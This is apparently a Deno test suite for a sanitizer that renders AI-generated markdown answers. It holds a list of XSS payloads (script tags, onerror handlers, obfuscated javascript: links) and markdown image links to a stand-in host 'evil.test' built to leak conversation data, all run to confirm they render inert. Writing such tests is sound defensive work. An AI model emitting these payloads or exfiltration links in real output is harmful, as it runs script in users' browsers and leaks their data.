import assert from "node:assert/strict";
import { chromium } from "playwright-core";
import { type LinkPolicy, renderSafeHtml, sanitizeAnswer } from "./answer_safety.ts";

const ALLOW: LinkPolicy = { domains: ["help.acme.test", "*.acme-cdn.test"] };

/** What attackers put into answers: through the model, a crawled page or an uploaded document. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="window.pwned=1">',
  "<svg onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  "<style>body{background:url(https://evil.test/x)}</style>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](jav&#x61;script:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](javascript&colon;alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](java\u0000script:alert(1))",
  "[click]( javascript:alert(1) )",
  "[click](<javascript:alert(1)>)",
  '[click](javascript:alert(1) "title")',
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](//evil.test/x)",
  "[click](https://help.acme.test@evil.test/)",
  "[click](https://help.acme.test:pw@evil.test/)",
  "[click](https:\\\\evil.test/)",
  "[click](https://evil.test/#https://help.acme.test/)",
  "[click](https://help.acme.test.evil.test/)",
  "[click](https://evil.test/?q=secret)",
  "[click](https://%65vil.test/)",
  "![x](https://evil.test/?q=the+conversation)",
  "![x](http://cdn.acme-cdn.test/tracker.png)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](https://cdn.acme-cdn.test/a.png)',
  "<https://evil.test/?q=secret>",
  "<javascript:alert(1)>",
  "Visit https://evil.test/?q=secret now",
  "Visit www.evil.test now",
  "[ref][evil]\n\n[evil]: https://evil.test/?q=secret",
  "[evil]\n\n[evil]: javascript:alert(1)",
  "![img][evil]\n\n[evil]: https://evil.test/pixel.png",
  "[a [b](https://evil.test/) c](javascript:alert(1))",
  "&#91;x&#93;(javascript:alert(1))",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;",
  '[x](https://help.acme.test/"onmouseover="alert(1))',
  "[x](https://help.acme.test/><script>alert(1)</script>)",
  "`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```",
  "**<img src=x onerror=alert(1)>**",
  "- [x](javascript:alert(1))\n- <b onclick=alert(1)>b</b>",
  "> <script>alert(1)</script>",
  "# <script>alert(1)</script>",
  '<!-- comment --><div style="position:fixed">x</div>',
  "\u202eevil.test\u202c [ok](https://help.acme.test/)",
  "[wow!](javascript:x)[y](https://help.acme.test/)",
];

const TAGS = new Set([
  "p",
  "br",
  "strong",
  "em",
  "del",
  "code",
  "pre",
  "ul",
  "ol",
  "li",
  "blockquote",
  "hr",
  "a",
  "img",
]);
const ATTRS: Record<string, string[]> = {
  a: ["href", "rel", "target"],
  img: ["src", "alt", "loading", "referrerpolicy"],
  ol: ["start"],
};

function allowedUrl(url: string, image: boolean): boolean {
  const u = new URL(url);
  const host = u.hostname;
  const hostOk = host === "help.acme.test" || host === "acme-cdn.test" || host.endsWith(".acme-cdn.test");
  return hostOk && !u.username && (u.protocol === "https:" || (!image && u.protocol === "http:"));
}

/** Every tag is one the renderer may emit, with only its own attributes, and every URL is allowed. */
function assertInert(html: string, input: string): void {
  const stripped = html.replace(/<\/?([a-z]+)((?:\s[a-z-]+="[^"<>]*")*)\s*>/g, (_, tag: string, attrs: string) => {
    assert.ok(TAGS.has(tag), `unexpected <${tag}> for ${JSON.stringify(input)}: ${html}`);
    for (const [, name, value] of attrs.matchAll(/\s([a-z-]+)="([^"]*)"/g)) {
      assert.ok(ATTRS[tag]?.includes(name), `unexpected ${name}= on <${tag}> for ${JSON.stringify(input)}`);
      if (name === "href" || name === "src") {
        assert.ok(allowedUrl(value.replace(/&amp;/g, "&"), tag === "img"), `${value} for ${JSON.stringify(input)}`);
      }
    }
    return "";
  });
  assert.ok(!stripped.includes("<"), `raw markup left for ${JSON.stringify(input)}: ${html}`);
  assert.doesNotMatch(html, /<script/i);
  assert.doesNotMatch(html, /(?:href|src)="\s*(?:javascript|vbscript|data):/i);
}

Deno.test("renderSafeHtml renders every hostile payload inert", () => {
  for (const input of HOSTILE) assertInert(renderSafeHtml(input, ALLOW), input);
});

Deno.test("renderSafeHtml shows raw HTML as text", () => {
  assert.equal(renderSafeHtml("<script>alert(1)</script>", ALLOW), "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>");
  assert.equal(
    renderSafeHtml("<img src=x onerror=alert(1)>", ALLOW),
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
  );
});

Deno.test("renderSafeHtml keeps links and images to allowed hosts", () => {
  const html = renderSafeHtml(
    "See [the guide](https://help.acme.test/guide?a=1&b=2) and ![logo](https://img.acme-cdn.test/logo.png).",
    ALLOW,
  );
  assert.equal(
    html,
    '<p>See <a href="https://help.acme.test/guide?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">' +
      'the guide</a> and <img src="https://img.acme-cdn.test/logo.png" alt="logo" loading="lazy" ' +
      'referrerpolicy="no-referrer">.</p>',
  );
});

Deno.test("renderSafeHtml drops links to other hosts but keeps their text", () => {
  assert.equal(renderSafeHtml("[our partner](https://evil.test/x) helps", ALLOW), "<p>our partner helps</p>");
  assert.equal(renderSafeHtml("![chart](https://evil.test/?q=secret)", ALLOW), "<p>chart</p>");
  assert.equal(renderSafeHtml("go to https://evil.test/?q=1 now", ALLOW), "<p>go to (link removed) now</p>");
});

Deno.test("renderSafeHtml renders the markdown answers use", () => {
  const md = "To reset your password:\n1. Open **Settings**\n2. Click *Reset* and use `Ctrl+R`\n\n" +
    "- one\n- two\n  - nested\n\nLine one\nline two\n\n```\nlet x = 1 < 2;\n```\n\n# Heading\n\n> quoted";
  assert.equal(
    renderSafeHtml(md, ALLOW),
    "<p>To reset your password:</p><ol><li>Open <strong>Settings</strong></li><li>Click <em>Reset</em> and use " +
      "<code>Ctrl+R</code></li></ol><ul><li>one</li><li>two<ul><li>nested</li></ul></li></ul>" +
      "<p>Line one<br>line two</p><pre><code>let x = 1 &lt; 2;</code></pre><p><strong>Heading</strong></p>" +
      "<blockquote><p>quoted</p></blockquote>",
  );
});

Deno.test("renderSafeHtml keeps escaped and intra-word markers literal", () => {
  assert.equal(renderSafeHtml("\\*not em\\* snake_case_name", ALLOW), "<p>&#42;not em&#42; snake_case_name</p>");
});

Deno.test("renderSafeHtml stays fast on pathological input", () => {
  const inputs = [
    "[".repeat(20_000),
    "**a ".repeat(10_000),
    "`".repeat(5_000) + "x",
    "[a](".repeat(5_000),
    "<a:".repeat(10_000),
  ];
  for (const input of inputs) {
    const started = performance.now();
    assertInert(renderSafeHtml(input, ALLOW), input.slice(0, 20));
    sanitizeAnswer(input, ALLOW);
    // Linear work here is ~0.2 s at most; catastrophic backtracking on inputs this long would take minutes or
    // more. The bound is far from both, so a loaded CI machine does not trip it and a ReDoS still does.
    assert.ok(performance.now() - started < 15_000, `slow on ${input.slice(0, 10)}...`);
  }
});

Deno.test("sanitizeAnswer keeps allowed links and drops the rest", () => {
  assert.equal(
    sanitizeAnswer("See [guide](https://help.acme.test/guide) or [evil](https://evil.test/x).", ALLOW),
    "See [guide](https://help.acme.test/guide) or evil.",
  );
  assert.equal(sanitizeAnswer("![x](https://evil.test/?q=secret) done", ALLOW), "x done");
  assert.equal(sanitizeAnswer("[c](jav&#x61;script:alert(1))", ALLOW), "c");
  assert.equal(sanitizeAnswer("[u](https://help.acme.test@evil.test/)", ALLOW), "u");
  assert.equal(
    sanitizeAnswer("<https://evil.test/a> and https://evil.test/b", ALLOW),
    "(link removed) and (link removed)",
  );
  assert.equal(sanitizeAnswer("www.acme-cdn.test/x", ALLOW), "https://www.acme-cdn.test/x");
});

Deno.test("sanitizeAnswer escapes raw HTML so it shows as text", () => {
  assert.equal(sanitizeAnswer("<script>alert(1)</script>", ALLOW), "&lt;script>alert(1)&lt;/script>");
});

Deno.test("sanitizeAnswer inlines reference links and drops every definition", () => {
  assert.equal(
    sanitizeAnswer("[good][a] and [bad][b]\n\n[a]: https://help.acme.test/ok\n[b]: https://evil.test/", ALLOW),
    "[good](https://help.acme.test/ok) and bad",
  );
});

Deno.test("sanitizeAnswer leaves nothing a markdown renderer could turn into an unchecked link", () => {
  for (const input of HOSTILE) {
    const out = sanitizeAnswer(input, ALLOW);
    // Rendering our own output again must stay inert, and must find the same links.
    assertInert(renderSafeHtml(out, ALLOW), out);
    // Outside code, every "](" belongs to a link we wrote to an allowed URL.
    const prose = out.replace(/```[^]*?```|`[^`\n]*`/g, "");
    for (const m of prose.matchAll(/\]\(([^)\s]*)/g)) {
      if (prose[m.index - 1] === "\\") continue;
      assert.ok(allowedUrl(m[1], false), `${m[1]} in ${JSON.stringify(out)}`);
    }
    assert.doesNotMatch(prose, /^ {0,3}\[[^\]]*\]:/m, `definition left in ${JSON.stringify(out)}`);
    assert.doesNotMatch(prose, /(?:java|vb)script:/i);
  }
});

Deno.test("sanitizeAnswer keeps code verbatim and closes an unclosed fence", () => {
  assert.equal(
    sanitizeAnswer("Run `a<b` then:\n```sh\necho '<x>'\n```", ALLOW),
    "Run `a<b` then:\n```sh\necho '<x>'\n```",
  );
  assert.equal(sanitizeAnswer("```js\nlet x", ALLOW), "```js\nlet x\n```");
});

Deno.test("sanitizeAnswer does not let a stray ! turn the next link into an image", () => {
  assert.equal(
    sanitizeAnswer("[wow!](javascript:x)[y](https://help.acme.test/)", ALLOW),
    "wow\\![y](https://help.acme.test/)",
  );
});

Deno.test("wildcard domains cover the apex and subdomains only", () => {
  const html = renderSafeHtml(
    "[a](https://acme-cdn.test/) [b](https://x.y.acme-cdn.test/) [c](https://evilacme-cdn.test/)",
    ALLOW,
  );
  assert.equal((html.match(/<a /g) ?? []).length, 2);
  assert.ok(!html.includes("evilacme"));
});

const CHROMIUM = Deno.env.get("CHROMIUM_PATH") ?? "/usr/bin/chromium";
const hasChromium = (() => {
  try {
    return Deno.statSync(CHROMIUM).isFile;
  } catch {
    return false;
  }
})();

Deno.test({
  name: "in a real browser, rendered hostile answers run no script and load nothing from other hosts",
  ignore: !hasChromium,
  async fn() {
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--headless", "--no-sandbox"] });
    try {
      const page = await browser.newPage();
      const requests: string[] = [];
      await page.route("**/*", (route) => {
        const url = route.request().url();
        if (url.startsWith("https://help.acme.test/")) return route.fulfill({ body: "<!doctype html><body></body>" });
        requests.push(url);
        return route.abort();
      });
      const dialogs: string[] = [];
      page.on("dialog", (d) => {
        dialogs.push(d.message());
        d.dismiss().catch(() => {});
      });
      await page.goto("https://help.acme.test/");
      const html = HOSTILE.map((md) => renderSafeHtml(md, ALLOW)).join("\n") +
        HOSTILE.map((md) => renderSafeHtml(sanitizeAnswer(md, ALLOW), ALLOW)).join("\n");
      const found = await page.evaluate(async (markup) => {
        const root = document.createElement("div");
        document.body.append(root);
        root.innerHTML = markup;
        await new Promise((r) => setTimeout(r, 300));
        const handlers = [...root.querySelectorAll("*")].flatMap((el) =>
          [...el.attributes].filter((a) => /^on/i.test(a.name) || /^\s*(javascript|data|vbscript):/i.test(a.value))
            .map((a) => `${el.tagName} ${a.name}=${a.value}`)
        );
        return {
          pwned: (window as unknown as { pwned?: number }).pwned ?? 0,
          handlers,
          scripts: root.querySelectorAll("script,iframe,svg,style").length,
        };
      }, html);
      assert.deepEqual(found, { pwned: 0, handlers: [], scripts: 0 });
      assert.deepEqual(dialogs, []);
      assert.deepEqual(requests.filter((u) => !/acme-cdn\.test/.test(u)), []);
    } finally {
      await browser.close();
    }
  },
});
